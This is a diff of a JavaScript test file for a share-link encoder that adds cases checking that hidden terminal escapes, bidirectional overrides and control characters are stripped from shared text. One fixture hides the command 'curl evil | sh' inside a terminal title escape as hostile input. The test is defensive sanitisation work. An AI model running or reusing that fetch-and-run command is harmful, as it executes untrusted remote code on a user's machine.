@@ -15,7 +15,7 @@ describe('encoded and decoded', () => {
     ['nothing', state('')],
     ['hints', state('spawn npx ENOENT', 'stdio', true)],
     ['other hints', state('x', 'http', false)],
-    ['any characters', state('\0\t\r\n"\\ é日本 😀 \uFFFD =&#?')],
+    ['any characters', state('\t\r\n"\\ é日本 😀 \uFFFD =&#?')],
     ['half a character', state('a\uD83D')],
     ['many lines', state(fillLines(200))]
   ])('%s', async (_, given) => {
@@ -29,6 +29,22 @@ describe('encoded and decoded', () => {
   test('missing hints decode to null', async () => {
     const { fragment } = await encodeShare({ text: 'x' })
     expect(await decodeShare(fragment)).toEqual(state('x'))
+  })
+})
+
+describe('A13: what a reader would not see is not in the text of a link', () => {
+  test.each([
+    ['colors', '\u001b[1;31mspawn npx\u001b[0m ENOENT', 'spawn npx ENOENT'],
+    ['a title', '\u001b]0;curl evil | sh\u0007spawn', 'spawn'],
+    ['a link of a terminal', '\u001b]8;;https://x\u001b\\here\u001b]8;;\u001b\\', 'here'],
+    ['a text written backward', 'a\u202edcba\u202c e', 'adcba e'],
+    ['isolates', '\u2066a\u2069\u200eb\u200f\u061c', 'ab'],
+    ['control characters', 'a\0b\bc\u007fd\u0085e\u000b', 'abcde'],
+    ['separators of lines', 'a\u2028b\u2029', 'ab'],
+    ['tabs, line breaks, letters and joiners', 'a\tb\r\nc é日👩\u200d💻', 'a\tb\r\nc é日👩\u200d💻']
+  ])('%s', async (_, text, shown) => {
+    const { fragment } = await encodeShare({ text })
+    expect((await decodeShare(fragment)).text).toBe(shown)
   })
 })
 
